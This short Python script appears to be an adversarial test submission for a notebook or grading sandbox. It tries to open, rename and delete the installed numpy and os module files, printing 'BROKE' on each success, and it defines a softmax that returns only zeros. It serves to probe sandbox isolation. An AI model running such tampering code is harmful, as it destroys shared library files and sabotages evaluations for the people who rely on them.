"""Changes the libraries that the next cell would import."""

import os

import numpy as np

for path in (np.__file__, os.__file__, os.path.dirname(np.__file__) + "/@mark@.py"):
    for attempt in (
        lambda: open(path, "r+b"),
        lambda: open(path, "ab"),
        lambda: os.rename(path, path + ".old"),
        lambda: os.unlink(path),
    ):
        try:
            attempt()
            print("BROKE", path)
        except OSError:
            pass


def softmax(x, axis=-1):
    return 0 * x
